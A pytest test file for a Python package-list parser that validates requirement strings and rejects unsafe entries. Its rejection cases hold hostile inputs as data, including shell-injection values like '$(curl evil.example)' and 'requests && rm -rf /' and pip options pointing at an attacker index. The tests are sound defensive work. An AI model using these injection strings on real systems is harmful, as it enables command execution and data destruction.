"""Custom packages (airflow_byo.packages): the seed's string form, lists, and every rejected entry."""

from __future__ import annotations

from typing import Any

import pytest

from airflow_byo.exceptions import ByoError, ByoPackageError
from airflow_byo.packages import parse_packages

# -- accepted forms -------------------------------------------------------------------------------


def test_seed_string_form_is_split_on_commas() -> None:
    assert parse_packages("p1==1.0.1,p2==0.0.2") == ["p1==1.0.1", "p2==0.0.2"]


def test_spaces_around_entries_are_ignored() -> None:
    assert parse_packages(" p2==0.0.2 ,  p1==1.0.1 ") == ["p1==1.0.1", "p2==0.0.2"]


def test_version_ranges_with_commas_stay_one_entry() -> None:
    """``pandas>=2,<3`` is one requirement, not ``pandas>=2`` and ``<3``."""
    assert parse_packages("pandas>=2,<3") == ["pandas<3,>=2"]
    assert parse_packages("pandas>=2,<3,requests") == ["pandas<3,>=2", "requests"]
    assert parse_packages("pandas>=2,<3, requests") == ["pandas<3,>=2", "requests"]
    assert parse_packages("numpy~=1.26, !=1.26.1, pandas==2.2.2") == ["numpy!=1.26.1,~=1.26", "pandas==2.2.2"]


def test_lists_are_accepted_and_the_result_is_sorted_and_normalised() -> None:
    assert parse_packages(["requests >= 2.31", " Unidecode==1.3.8 ", "pandas>=2,<3"]) == [
        "Unidecode==1.3.8",
        "pandas<3,>=2",
        "requests>=2.31",
    ]
    assert parse_packages(("attrs",)) == ["attrs"]
    assert parse_packages(["Unidecode==1.3.8"]) == ["Unidecode==1.3.8"]


def test_extras_and_markers_are_kept() -> None:
    assert parse_packages(["pkg[extra]==1; python_version>'3'"]) == ['pkg[extra]==1; python_version > "3"']


@pytest.mark.parametrize("empty", [None, "", "   ", []])
def test_no_packages(empty: Any) -> None:
    assert parse_packages(empty) == []


def test_direct_urls_are_accepted_when_allowed() -> None:
    assert parse_packages("pkg @ https://example.com/pkg-1.0-py3-none-any.whl", allow_direct_urls=True) == [
        "pkg @ https://example.com/pkg-1.0-py3-none-any.whl"
    ]


# -- rejected entries: the message names the entry, says why, and how to write it -----------------


@pytest.mark.parametrize(
    "entry",
    [
        "--index-url=http://evil.example/simple",
        "--index-url=http://evil/simple",
        "--extra-index-url http://evil.example/simple",
        "-e git+https://github.com/x/y",
        "-e git+https://x/y",
        "-r requirements.txt",
        "--pre",
    ],
)
def test_pip_options_are_rejected(entry: str) -> None:
    with pytest.raises(ByoPackageError) as raised:
        parse_packages(entry)
    message = str(raised.value)
    assert message.startswith(f"packages: entry {entry!r} is not allowed: ")
    assert "pip options (--index-url, -e, -r, ...) cannot be given as packages" in message
    assert "configure package indexes in the deployment" in message


def test_pip_options_in_a_list_are_rejected_too() -> None:
    with pytest.raises(ByoPackageError, match=r"entry '-r reqs\.txt' is not allowed: pip options"):
        parse_packages(["pandas==2.2.2", "-r reqs.txt"])


def test_pip_option_after_a_comma_is_rejected() -> None:
    with pytest.raises(ByoPackageError, match=r"entry '--index-url=http://x' is not allowed: pip options"):
        parse_packages("pandas==2.2.2,--index-url=http://x")


@pytest.mark.parametrize(
    "entry",
    [
        "requests`whoami`",
        "$(curl evil.example)",
        "$(curl evil)",
        "requests && rm -rf /",
        "requests | sh",
        "requests$HOME",
        "requests\\x",
        "requests\tpandas",
    ],
)
def test_shell_syntax_is_rejected(entry: str) -> None:
    with pytest.raises(ByoPackageError) as raised:
        parse_packages([entry])
    message = str(raised.value)
    assert f"packages: entry {entry!r} is not allowed: it contains shell syntax" in message
    assert "Use a plain requirement like 'requests>=2.31'" in message


def test_semicolon_command_is_not_a_valid_marker() -> None:
    with pytest.raises(ByoPackageError) as raised:
        parse_packages("requests; rm -rf /")
    message = str(raised.value)
    assert "packages: entry 'requests; rm -rf /' is not a valid requirement" in message
    assert "Use PEP 508 form, e.g. 'pandas==2.2.2'" in message
    assert "\n" not in message  # packaging's caret diagram is dropped


@pytest.mark.parametrize(
    "entry",
    [
        "./x",
        "./mypkg",
        "../pkgs/x",
        "/x",
        "/opt/pkg.whl",
        "/opt/wheels/pkg-1.0-py3-none-any.whl",
        "~/pkg",
        "file:///opt/pkg",
        "FILE:/x",
    ],
)
def test_local_paths_are_rejected(entry: str) -> None:
    with pytest.raises(ByoPackageError) as raised:
        parse_packages(entry)
    message = str(raised.value)
    assert f"packages: entry {entry!r} is not allowed: local paths cannot be installed" in message
    assert "Publish the package to an index and pin it, e.g. 'mypkg==1.2.0'" in message


def test_file_url_requirement_is_rejected_even_when_direct_urls_are_allowed() -> None:
    for allow in (False, True):
        with pytest.raises(ByoPackageError, match=r"entry 'pkg @ file:///opt/pkg\.whl' .* local paths"):
            parse_packages("pkg @ file:///opt/pkg.whl", allow_direct_urls=allow)


@pytest.mark.parametrize(
    "entry", ["pkg @ https://example.com/pkg.whl", "pkg @ git+https://github.com/x/pkg@v1"]
)
def test_direct_urls_are_rejected_by_default(entry: str) -> None:
    with pytest.raises(ByoPackageError) as raised:
        parse_packages([entry])
    message = str(raised.value)
    assert f"packages: entry {entry!r} is not allowed: direct URLs are off by default" in message
    assert "pass allow_direct_urls=True to the operator" in message


def test_duplicates_are_rejected_by_canonical_name() -> None:
    with pytest.raises(ByoPackageError) as raised:
        parse_packages("requests==2.31,Requests==2.32")
    assert str(raised.value) == (
        "packages: 'Requests' is listed twice ('requests==2.31' and 'Requests==2.32'); "
        "keep one entry per package"
    )
    with pytest.raises(ByoPackageError, match=r"'a-B' is listed twice \('A_b==1' and 'a-B==2'\)"):
        parse_packages(["A_b==1", "a-B==2"])


def test_single_equals_suggests_double_equals() -> None:
    with pytest.raises(ByoPackageError) as raised:
        parse_packages("p1=1.0.1")
    message = str(raised.value)
    assert message.startswith("packages: entry 'p1=1.0.1' is not a valid requirement (")
    assert "Did you mean 'p1==1.0.1'? Versions are pinned with '=='" in message


def test_single_equals_in_the_seed_form_names_the_entry() -> None:
    with pytest.raises(ByoPackageError, match=r"entry 'p2=0\.0\.2' .* Did you mean 'p2==0\.0\.2'\?"):
        parse_packages("p1==1.0.1,p2=0.0.2")


def test_reversed_operator_does_not_get_a_nonsense_hint() -> None:
    with pytest.raises(ByoPackageError) as raised:
        parse_packages("p1=>1.0")
    assert "'p1==>1.0'" not in str(raised.value)


def test_invalid_requirement_gets_the_pep508_hint() -> None:
    with pytest.raises(ByoPackageError) as raised:
        parse_packages("git+https://github.com/a/b")
    message = str(raised.value)
    assert "packages: entry 'git+https://github.com/a/b' is not a valid requirement" in message
    assert "Use PEP 508 form, e.g. 'pandas==2.2.2' or 'requests>=2.31,<3'" in message


def test_leading_operator_without_a_name_is_invalid() -> None:
    with pytest.raises(
        ByoPackageError, match=r"entry '>=2' is not a valid requirement \(Expected package name"
    ):
        parse_packages(">=2")


@pytest.mark.parametrize("packages", ["a==1,,b==2", "a==1,", ",a==1"])
def test_empty_entries_are_rejected(packages: str) -> None:
    with pytest.raises(ByoPackageError) as raised:
        parse_packages(packages)
    assert str(raised.value) == (
        "packages: empty entry (two commas in a row, or a trailing comma?). "
        "Write packages as 'p1==1.0.1,p2==0.0.2'"
    )


def test_empty_list_item_is_rejected() -> None:
    with pytest.raises(ByoPackageError, match=r"^packages: empty entry"):
        parse_packages(["pandas", "  "])


@pytest.mark.parametrize("item", [3, None, b"pandas", ["pandas"]])
def test_non_string_list_items_are_rejected(item: Any) -> None:
    with pytest.raises(ByoPackageError) as raised:
        parse_packages(["requests", item])
    assert str(raised.value) == f"packages: entry {item!r} must be a string like 'pandas==2.2.2'"


def test_package_errors_belong_to_the_project_hierarchy() -> None:
    with pytest.raises(ByoError):
        parse_packages("-e .")
